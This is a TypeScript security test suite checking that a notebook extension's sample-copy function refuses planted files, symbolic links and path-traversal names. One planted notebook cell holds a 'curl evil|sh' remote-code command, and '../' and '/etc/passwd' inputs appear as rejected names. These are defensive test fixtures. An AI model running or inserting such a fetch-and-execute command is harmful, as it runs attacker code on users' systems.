/**
 * Open Sample Notebook in a workspace that already has market-notebooks-samples/ (a cloned
 * repository can plant it): a planted notebook, data file or symlink is never opened as the
 * bundled sample, nothing is written through a link (issue 10).
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { copySample, freshFolder, SampleCopyError } from '../../../src/notebook/samples';

describe('security: Open Sample copies into a fresh folder, never through links', () => {
  let tmp: string, bundle: string, ws: string, dest: string;
  const NB = '01-sample.mktnb';
  beforeEach(() => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'mktnb-samples-'));
    bundle = path.join(tmp, 'ext', 'samples');
    fs.mkdirSync(path.join(bundle, 'data'), { recursive: true });
    fs.writeFileSync(path.join(bundle, NB), '{"format":"mktnb","version":"1.0","cells":[]}\n');
    fs.writeFileSync(path.join(bundle, 'data', 'BTC.csv'), 'date,close\n2024-01-01,1\n');
    ws = path.join(tmp, 'ws');
    fs.mkdirSync(ws);
    dest = path.join(ws, 'market-notebooks-samples');
  });
  afterEach(() => fs.rmSync(tmp, { recursive: true, force: true }));

  const fails = (kind: string, re: RegExp) => (e: unknown) =>
    e instanceof SampleCopyError && e.kind === kind && re.test(e.message);

  it('copies the notebook and its data into a new folder, and reuses a folder holding exactly them', () => {
    assert.equal(copySample(bundle, dest, NB), path.join(dest, NB));
    assert.equal(fs.readFileSync(path.join(dest, 'data', 'BTC.csv'), 'utf8'), 'date,close\n2024-01-01,1\n');
    assert.equal(copySample(bundle, dest, NB), path.join(dest, NB));
    fs.rmSync(path.join(dest, 'data', 'BTC.csv'));
    assert.equal(copySample(bundle, dest, NB), path.join(dest, NB), 'a missing file is copied again');
    assert.ok(fs.existsSync(path.join(dest, 'data', 'BTC.csv')));
  });

  it('refuses a planted notebook or data file and changes nothing', () => {
    fs.mkdirSync(path.join(dest, 'data'), { recursive: true });
    const planted =
      '{"format":"mktnb","version":"1.0","cells":[{"kind":"code","language":"typescript","source":["require(\'child_process\').exec(\'curl evil|sh\')"]}]}';
    fs.writeFileSync(path.join(dest, NB), planted);
    assert.throws(
      () => copySample(bundle, dest, NB),
      fails('differs', /01-sample\.mktnb already exists and differs from the bundled sample/),
    );
    assert.equal(fs.readFileSync(path.join(dest, NB), 'utf8'), planted);
    assert.ok(!fs.existsSync(path.join(dest, 'data', 'BTC.csv')), 'nothing was copied');
    fs.writeFileSync(path.join(dest, NB), fs.readFileSync(path.join(bundle, NB)));
    fs.writeFileSync(path.join(dest, 'data', 'BTC.csv'), 'date,close\n2024-01-01,1e9\n');
    assert.throws(() => copySample(bundle, dest, NB), fails('differs', /BTC\.csv already exists and differs/));
    // the fresh folder the command offers instead
    const fresh = freshFolder(dest);
    assert.equal(fresh, `${dest}-2`);
    assert.equal(copySample(bundle, fresh, NB), path.join(fresh, NB));
  });

  it('never follows a symbolic link: the folder, a subfolder or a file', () => {
    const outside = path.join(tmp, 'outside');
    fs.mkdirSync(outside);
    fs.symlinkSync(outside, dest);
    assert.throws(() => copySample(bundle, dest, NB), fails('symlink', /market-notebooks-samples is a symbolic link/));
    assert.deepEqual(fs.readdirSync(outside), []);
    fs.rmSync(dest);
    fs.mkdirSync(dest);
    fs.symlinkSync(outside, path.join(dest, 'data'));
    assert.throws(() => copySample(bundle, dest, NB), fails('symlink', /data is a symbolic link/));
    assert.deepEqual(fs.readdirSync(outside), []);
    fs.rmSync(path.join(dest, 'data'));
    fs.symlinkSync(path.join(bundle, NB), path.join(dest, NB)); // a link to the real sample is still a link
    assert.throws(() => copySample(bundle, dest, NB), fails('symlink', /01-sample\.mktnb is a symbolic link/));
    fs.rmSync(path.join(dest, NB));
    fs.symlinkSync(path.join(outside, 'target.txt'), path.join(dest, NB)); // dangling link
    assert.throws(() => copySample(bundle, dest, NB), fails('symlink', /symbolic link/));
    assert.deepEqual(fs.readdirSync(outside), [], 'nothing written through the dangling link');
  });

  it('refuses names that are not a bundled notebook', () => {
    for (const n of ['../x.mktnb', '/etc/passwd', 'data/BTC.csv'])
      assert.throws(() => copySample(bundle, dest, n), SampleCopyError);
  });
});
